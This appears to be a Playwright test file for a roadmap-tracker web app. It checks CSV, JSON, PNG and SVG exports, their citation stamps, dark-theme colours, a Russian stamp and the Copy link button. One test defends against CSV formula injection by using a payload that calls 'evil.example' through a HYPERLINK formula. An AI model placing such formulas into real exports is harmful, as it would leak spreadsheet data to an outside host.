import { expect, test } from '@playwright/test'
import { readFile } from 'node:fs/promises'
import { downloadFrom, parseCsv } from './downloads'

test.describe('exports', () => {
  test('the filtered board downloads as CSV and JSON that match it, with a citation', async ({ page }) => {
    await page.goto('/?view=board&topic=gas,oil&asOf=2019-12-10')
    const count = page.locator('.board-results__count')
    await expect(count).toHaveText(/^\d+ of \d+ roadmaps, as of 10 Dec 2019$/)
    const shown = Number(/^(\d+)/.exec((await count.textContent()) ?? '')?.[1])
    const boardRows = page.locator('tr[data-item-id]')
    await expect(boardRows.first()).toBeVisible()
    const boardIds = await boardRows.evaluateAll((rows) => rows.map((row) => row.getAttribute('data-item-id')))
    const boardStatuses = await boardRows.evaluateAll((rows) =>
      rows.map((row) => row.querySelector('[data-status]')?.getAttribute('data-status')),
    )

    const csv = await downloadFrom(page.getByRole('button', { name: 'Download the filtered items as CSV' }))
    expect(csv.name).toBe('roadmap-tracker_board_roadmaps_2019-12-10.csv')
    const { citation, rows } = parseCsv(csv.body.toString('utf8'))
    expect(citation.get('Dataset version')).toMatch(/^\d{4}-\d{2}-\d{2}$/)
    expect(citation.get('Statuses as of')).toBe('2019-12-10')
    expect(citation.get('Filters')).toBe('Roadmaps (2019); topic: Gas, Oil')
    expect(citation.get('View')).toMatch(/\?view=board&topic=gas%2Coil&asOf=2019-12-10/)
    const [header, ...items] = rows
    expect(header?.slice(0, 6)).toEqual(['id', 'set', 'title', 'title_status', 'topics', 'status'])
    expect(items).toHaveLength(shown)
    expect(citation.get('Items')).toBe(String(shown))
    expect(citation.get('Licence')).toMatch(/^CC BY 4.0 https:\/\/creativecommons.org\/licenses\/by\/4.0\/; quotes /)
    // The board's rows, in the board's order and with the board's statuses, lead the file.
    expect(items.slice(0, boardIds.length).map((item) => item[0])).toEqual(boardIds)
    expect(items.slice(0, boardIds.length).map((item) => item[5])).toEqual(boardStatuses)
    for (const item of items) expect(item[4]).toMatch(/Gas|Oil/)

    const json = await downloadFrom(page.getByRole('button', { name: 'Download the filtered items as JSON' }))
    expect(json.name).toBe('roadmap-tracker_board_roadmaps_2019-12-10.json')
    const parsed = JSON.parse(json.body.toString('utf8')) as {
      citation: { datasetVersion: string; asOf: string; url: string; itemCount: number }
      items: { id: string; status: string }[]
    }
    expect(parsed.citation).toMatchObject({ asOf: '2019-12-10', itemCount: shown })
    expect(parsed.citation.datasetVersion).toBe(citation.get('Dataset version'))
    expect(parsed.citation.url).toBe(citation.get('View'))
    expect(parsed.items.map((item) => [item.id, item.status])).toEqual(items.map((item) => [item[0], item[5]]))
  })

  test('a CSV exported with a formula in the search has no cell a spreadsheet would run', async ({ page }) => {
    const formula = 'x,=HYPERLINK("https://evil.example/"&A1),+1,-1,@SUM(A1)'
    await page.goto(`/?view=board&q=${encodeURIComponent(formula)}`)
    await expect(page.getByRole('combobox', { name: 'Search', exact: true })).toHaveValue(formula)
    const csv = await downloadFrom(page.getByRole('button', { name: 'Download the filtered items as CSV' }))
    const { citation, rows } = parseCsv(csv.body.toString('utf8'))
    expect(citation.get('Filters')).toContain(formula)
    const cells = [...rows.flat(), ...[...citation.values()]]
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
  })

  test('the board file speaks for the view’s date: its statuses, deadlines and sources, accessed today', async ({
    page,
  }) => {
    const published = new Map(
      (JSON.parse(await readFile('data/sources.json', 'utf8')) as { id: string; date: string }[]).map((source) => [
        source.id,
        source.date,
      ]),
    )
    await page.goto('/?view=board&asOf=2019-11-29')
    await expect(page.locator('tr[data-item-id]').first()).toBeVisible()
    const json = await downloadFrom(page.getByRole('button', { name: 'Download the filtered items as JSON' }))
    const { citation, items } = JSON.parse(json.body.toString('utf8')) as {
      citation: { asOf: string; exportedOn: string }
      items: { statusDate: string; statusSources: string[]; sources: string[]; deadlines: { outcome: string }[] }[]
    }
    expect(citation.asOf).toBe('2019-11-29')
    expect(citation.exportedOn).toBe(new Date().toISOString().slice(0, 10))
    expect(items.filter((item) => item.statusDate > '2019-11-29')).toEqual([])
    const cited = items.flatMap((item) => [...item.statusSources, ...item.sources])
    expect(cited.length).toBeGreaterThan(0)
    expect(cited.filter((id) => (published.get(id) ?? '') > '2019-11-29')).toEqual([])

    // With no date chosen, the file is as of the latest data, as the screen is; not as of today.
    await page.goto('/?view=board')
    await expect(page.locator('tr[data-item-id]').first()).toBeVisible()
    const csv = await downloadFrom(page.getByRole('button', { name: 'Download the filtered items as CSV' }))
    const latest = parseCsv(csv.body.toString('utf8')).citation
    expect(latest.get('Statuses as of')).toBe(latest.get('Data as of'))
  })

  test('a chart downloads as PNG and SVG stamped with its title, date, filters and sources', async ({ page }) => {
    await page.goto('/?view=charts&topic=gas,oil&asOf=2019-12-10')
    const chart = page.getByRole('region', { name: 'Status breakdown' })
    await expect(chart.locator('.recharts-rectangle').first()).toBeVisible()

    const png = await downloadFrom(chart.getByRole('button', { name: 'Download this chart as a PNG image' }))
    expect(png.name).toBe('roadmap-tracker_chart_status-breakdown_slide_2019-12-10.png')
    expect(png.body.subarray(0, 8)).toEqual(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]))
    expect(png.body.length).toBeGreaterThan(10_000)
    // Width and height from the IHDR chunk: a real picture, not a blank pixel.
    expect(png.body.readUInt32BE(16)).toBeGreaterThan(500)
    expect(png.body.readUInt32BE(20)).toBeGreaterThan(150)

    const svg = await downloadFrom(chart.getByRole('button', { name: 'Download this chart as an SVG image' }))
    expect(svg.name).toBe('roadmap-tracker_chart_status-breakdown_slide_2019-12-10.svg')
    const svgText = svg.body.toString('utf8')
    expect(svgText).toMatch(/^<svg/)
    expect(svgText).toContain('Status breakdown')
    expect(svgText).toContain('Statuses as of 10 Dec 2019')
    expect(svgText).toContain('Filters: Roadmaps (2019); topic: Gas, Oil')
    expect(svgText).toMatch(/Sources: S\w+ /)
    await expect(
      chart.getByText(/^Downloaded: roadmap-tracker_chart_status-breakdown_slide_2019-12-10\.svg$/),
    ).toBeVisible()
  })

  test('the progress chart, which the filters do not narrow, says so on its stamp, here in Russian', async ({
    page,
  }) => {
    await page.goto('/?view=charts&topic=gas,oil&asOf=2019-12-10&lang=ru')
    const chart = page.getByRole('region', { name: 'Заявленный прогресс: карты и программы' })
    await expect(chart.getByText('фильтры к этому графику не применяются', { exact: false })).toBeVisible()
    const svg = await downloadFrom(chart.getByRole('button', { name: 'Скачать график как изображение SVG' }))
    const svgText = svg.body.toString('utf8')
    // Its marks are reported counts, and its stamp says so rather than speaking of statuses.
    expect(svgText).toContain('Заявленные итоги, известные на 10 дек. 2019 г.')
    expect(svgText).toContain('Фильтры: без фильтров: итоги, заявленные по всей программе')
    expect(svgText).not.toContain('тема: Газ')
  })

  test('a chart exported in the dark theme keeps its dark background and light text', async ({ page }) => {
    await page.goto('/?view=charts&asOf=2019-12-10&theme=dark')
    const chart = page.getByRole('region', { name: 'Status breakdown' })
    await expect(chart.locator('.recharts-rectangle').first()).toBeVisible()
    const svg = await downloadFrom(chart.getByRole('button', { name: 'Download this chart as an SVG image' }))
    const svgText = svg.body.toString('utf8')
    // The dark theme's background (#12151b) and text (#e8ebf0), as colours any viewer can read.
    expect(svgText).toMatch(
      /^<svg [^>]*><title>Status breakdown<\/title>(<defs>.*?<\/defs>)?<rect [^>]*fill="#12151b"\/>/,
    )
    expect(svgText).toMatch(/<text [^>]*fill="#e8ebf0">Status breakdown<\/text>/)
    expect(svgText).not.toContain('light-dark(')
    expect(svgText).not.toContain('var(--')
  })

  test('Copy link puts the link to this view, in the reader’s theme, on the clipboard', async ({ page, context }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    await page.goto('/?view=briefing&topic=gas&asOf=2019-12-10&slide=2&theme=dark')
    await expect(page.locator('.deck__counter')).toHaveText(/^Slide 2 of/)
    await page.getByRole('button', { name: 'Copy link' }).click()
    await expect(page.getByText('Link to this view copied')).toBeVisible()
    const copied = await page.evaluate(() => navigator.clipboard.readText())
    const url = new URL(copied)
    expect(Object.fromEntries(url.searchParams)).toEqual({
      view: 'briefing',
      topic: 'gas',
      asOf: '2019-12-10',
      slide: '2',
      theme: 'dark',
      v: '1',
    })
    await page.goto(copied)
    await expect(page.locator('.deck__counter')).toHaveText(/^Slide 2 of/)
  })
})
